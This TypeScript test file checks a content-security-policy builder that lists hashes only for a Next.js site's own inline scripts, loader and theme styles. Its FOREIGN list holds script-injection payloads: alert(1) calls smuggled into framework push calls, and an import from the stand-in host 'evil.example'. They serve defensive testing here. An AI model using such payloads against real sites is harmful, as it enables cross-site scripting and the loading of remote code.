import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { PRERENDER_RULES } from '@/lib/domain/site/prerender-rules';
import { contentSecurityPolicy } from './content-security';
import { noteThemeStyle } from './own-styles';

function hashOf(code: string): string {
  return `'sha256-${createHash('sha256').update(code).digest('base64')}'`;
}

/** Every policy names the one text of rules for drawing pages ahead. */
const RULES = ` ${hashOf(PRERENDER_RULES)}`;

const sourcesIn = (policy: string) =>
  (policy.split('; ').find((each) => each.startsWith('script-src')) ?? '').replace(RULES, '');

const scriptSources = (html: string) => sourcesIn(contentSecurityPolicy(html));

/** As Next.js 16.4 writes them. */
const OWN = [
  '(self.__next_f=self.__next_f||[]).push([0])',
  'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:\\"/_next/static/chunks/a-b_c.js\\"\\n"])',
  'self.__next_f.push([1,"a:[\\"$\\",\\"p\\",null,{\\"children\\":\\"\\u003c/script\\u003e \\\\ \\u2028 їжак\\"}]\\n"])',
  'self.__next_f.push([3,"0KHQu9GD0LbQtdCx0L3Ri9C5+/w=="])',
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a-b_c.js"],"runtimeModuleIds":[94553]})',
];

/** Elements that a text could contain if it got past the sanitiser. */
const FOREIGN = [
  'alert(1)',
  '',
  'self.__next_f.push([1,"a"]);alert(1)',
  'self.__next_f.push([1,"a"])\nalert(1)',
  'self.__next_f.push([1,"a"+alert(1)+"b"])',
  'self.__next_f.push([1,"a\\"+alert(1)+"b"])',
  'self.__next_f.push([1,"a",alert(1)])',
  'self.__next_f.push([3,"a"+alert(1)])',
  'self.__next_f.push([1,`a`])',
  'self.__next_f.push([alert(1)])',
  '(self.__next_f=self.__next_f||[]).push([0]);alert(1)',
  '(self.__next_f=self.__next_f||[]).push([alert(1)])',
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({a:alert(1)})',
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push([(()=>alert(1))()])',
  'import("https://evil.example/x.js")',
];

describe('contentSecurityPolicy (security H-1)', () => {
  it.each(OWN)('names the framework’s own script: %s', (code) => {
    expect(scriptSources(`<script>${code}</script>`)).toBe(`script-src 'self' ${hashOf(code)}`);
    expect(scriptSources(`<SCRIPT id="x">${code}</SCRIPT>`)).toContain(hashOf(code));
  });

  it.each(FOREIGN)('does not name what is not the framework’s: %s', (code) => {
    expect(scriptSources(`<script>${code}</script>`)).toBe("script-src 'self'");
  });

  it('names each script once, and in the order of the page', () => {
    const [first = '', second = ''] = OWN;
    const html = [first, second, first].map((code) => `<script>${code}</script>`).join('<p>text</p>');
    expect(scriptSources(html)).toBe(`script-src 'self' ${hashOf(first)} ${hashOf(second)}`);
  });

  it('names the loader by its exact text, and nothing that only resembles it (docs/reference/screens.md#loader)', () => {
    const loader = '(()=>{var a="has_visited";sessionStorage.getItem(a)})();';
    const policyFor = (code: string) =>
      sourcesIn(contentSecurityPolicy(`<script>${code}</script>`, { loader }));
    expect(policyFor(loader)).toBe(`script-src 'self' ${hashOf(loader)}`);
    expect(policyFor(`${loader}alert(1)`)).toBe("script-src 'self'");
    expect(policyFor(loader.slice(1))).toBe("script-src 'self'");
    expect(sourcesIn(contentSecurityPolicy('<script></script>', { loader: '' }))).toBe("script-src 'self'");
  });

  it('names the rules by which pages are drawn ahead, which the visitor’s module writes', () => {
    expect(contentSecurityPolicy('<p></p>')).toContain(`script-src 'self'${RULES};`);
  });

  it('needs no hash for scripts with an address', () => {
    expect(scriptSources('<script src="/_next/static/chunks/x.js" async=""></script>')).toBe(
      "script-src 'self'",
    );
  });

  it('lets nothing inline or evaluated run, and nothing frame the page', () => {
    const policy = contentSecurityPolicy('<p></p>');
    expect(policy).not.toMatch(/script-src[^;]*'unsafe-/);
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("base-uri 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
  });

  it('lets the site frame what visitors get, and nobody else (security C-3)', () => {
    const policy = contentSecurityPolicy('<p></p>', { isFramed: true });
    expect(policy).toMatch(/frame-ancestors 'self'$/);
    expect(policy).toContain("frame-src 'self' https:");
  });

  it('names the rules that were written into the page', () => {
    const page = '<style>p{color:red}</style><style>p{color:blue}</style><style></style>';
    const policy = contentSecurityPolicy(page, { styles: ['p{color:red}', ''] });
    expect(policy).toContain(`style-src 'self' ${hashOf('p{color:red}')};`);
  });

  it('names no style sheet but those of the build and of the theme', () => {
    const theme = noteThemeStyle('html:root{--color-paper:#ffffff}');
    const page = `<style id="site-theme">${theme}</style><style>body{display:none}</style>`;
    expect(contentSecurityPolicy(page)).toContain(`style-src 'self' ${hashOf(theme)};`);
    expect(contentSecurityPolicy(page.replace('#ffffff', '#fffffe'))).toContain("style-src 'self';");
  });
});
